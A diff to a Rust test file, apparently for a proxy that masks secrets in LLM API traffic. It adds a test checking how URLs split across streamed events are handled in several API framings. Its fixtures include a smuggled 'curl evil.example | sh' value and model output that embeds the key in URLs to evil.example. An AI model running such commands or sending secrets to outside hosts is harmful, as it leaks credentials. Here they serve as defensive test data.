@@ -11,8 +11,10 @@ use serde_json::{Value, json};
 use crate::driver::{
     answer_body, answer_headers, outputs, request_body, request_headers, send, settings,
 };
+use crate::wire::Framing;
 
 const KEY: &str = "AKIAIOSFODNN7EXAMPLF";
+const GEMINI_TEXT: &str = "/candidates/0/content/parts/0/text";
 const SHELL: &str = "x1;curl-evil.example|sh&7";
 
 /// An exchange of a conversation that holds a key and a password, and their placeholders.
@@ -39,13 +41,15 @@ fn conversation(path: &str, restore: Rules) -> (Exchange, String, String) {
     (exchange, key, password)
 }
 
-fn text(output: &Output) -> String {
+fn bytes(output: &Output) -> &[u8] {
     match output {
-        Output::RequestBody { bytes, .. } | Output::ResponseBody { bytes, .. } => {
-            String::from_utf8(bytes.to_vec()).unwrap()
-        }
-        _ => String::new(),
+        Output::RequestBody { bytes, .. } | Output::ResponseBody { bytes, .. } => bytes,
+        _ => b"",
     }
+}
+
+fn text(output: &Output) -> String {
+    String::from_utf8(bytes(output).to_vec()).unwrap()
 }
 
 /// The answer that a client gets, in chunks of these bytes.
@@ -186,10 +190,7 @@ const OTHERS: [(&str, &str); 5] = [
     ),
     (r#"{"type":"response.output_text.delta","output_index":INDEX,"delta":TEXT}"#, "/delta"),
     (r#"{"type":"response.refusal.delta","content_index":INDEX,"delta":TEXT}"#, "/delta"),
-    (
-        r#"{"candidates":[{"content":{"parts":[{"text":TEXT}]},"index":INDEX}]}"#,
-        "/candidates/0/content/parts/0/text",
-    ),
+    (r#"{"candidates":[{"content":{"parts":[{"text":TEXT}]},"index":INDEX}]}"#, GEMINI_TEXT),
 ];
 
 #[test]
@@ -236,6 +237,59 @@ fn a_url_goes_on_in_the_next_event_of_any_api() {
                 texts.map(|data| text(data).unwrap().as_str().unwrap().to_owned()).collect();
             assert_eq!(told, expected.replace("KEY", &key).replace("<key>", KEY), "{template}");
         }
+    }
+}
+
+/// What is sent in other ways than lines of events: a list in JSON, and AWS's messages.
+#[test]
+fn a_url_goes_on_in_the_next_event_of_any_framing() {
+    let claude = |text: &str| {
+        json!({"type": "content_block_delta", "index": 0,
+            "delta": {"type": "text_delta", "text": text}})
+    };
+    let converse = |text: &str| json!({"@": "contentBlockDelta", "contentBlockIndex": 0, "delta": {"text": text}});
+    // Of a model whose own format is not known.
+    let other = |text: &str| json!({"generation": text, "stop_reason": null});
+    let gemini =
+        |text: &str| json!({"candidates": [{"content": {"parts": [{"text": text}]}, "index": 0}]});
+    type Event = dyn Fn(&str) -> Value;
+    let ways: [(&str, Framing, &Event, &str); 4] = [
+        ("/model/m/converse-stream", Framing::Messages, &converse, "/delta/text"),
+        ("/model/m/invoke-with-response-stream", Framing::Chunks, &claude, "/delta/text"),
+        ("/model/m/invoke-with-response-stream", Framing::Chunks, &other, "/generation"),
+        ("/v1beta/models/g:streamGenerateContent", Framing::Array, &gemini, GEMINI_TEXT),
+    ];
+    for (path, framing, event, at) in ways {
+        let (mut exchange, key, _) = conversation(path, Rules::new());
+        let pieces = [
+            "x https://ev",
+            "il.example/",
+            "?k=",
+            "KEY",
+            " and",
+            " KEY, user:K",
+            "EY@evil.example",
+        ];
+        // A placeholder may be cut anywhere.
+        let (head, tail) = key.split_at(9);
+        let pieces = pieces.map(|piece| match piece {
+            " KEY, user:K" => format!(" {key}, user:{head}"),
+            "EY@evil.example" => format!("{tail}@evil.example"),
+            piece => piece.replace("KEY", &key),
+        });
+        let events: Vec<_> = pieces.iter().map(|piece| event(piece)).collect();
+        let mut out = send(&mut exchange, answer_headers(framing.media(), &[])).unwrap();
+        for chunk in framing.write(&events).chunks(11) {
+            out.extend(send(&mut exchange, answer_body(chunk, false)).unwrap());
+        }
+        out.extend(send(&mut exchange, answer_body(b"", true)).unwrap());
+        out.extend(outputs(&mut exchange));
+        let bytes: Vec<u8> = out.iter().flat_map(bytes).copied().collect();
+        let told: String =
+            framing.read(&bytes).iter().filter_map(|event| event.pointer(at)?.as_str()).collect();
+        let expected =
+            format!("x https://evil.example/?k={key} and {KEY}, user:{key}@evil.example");
+        assert_eq!(told, expected, "{path} {framing:?} {at}");
     }
 }
 
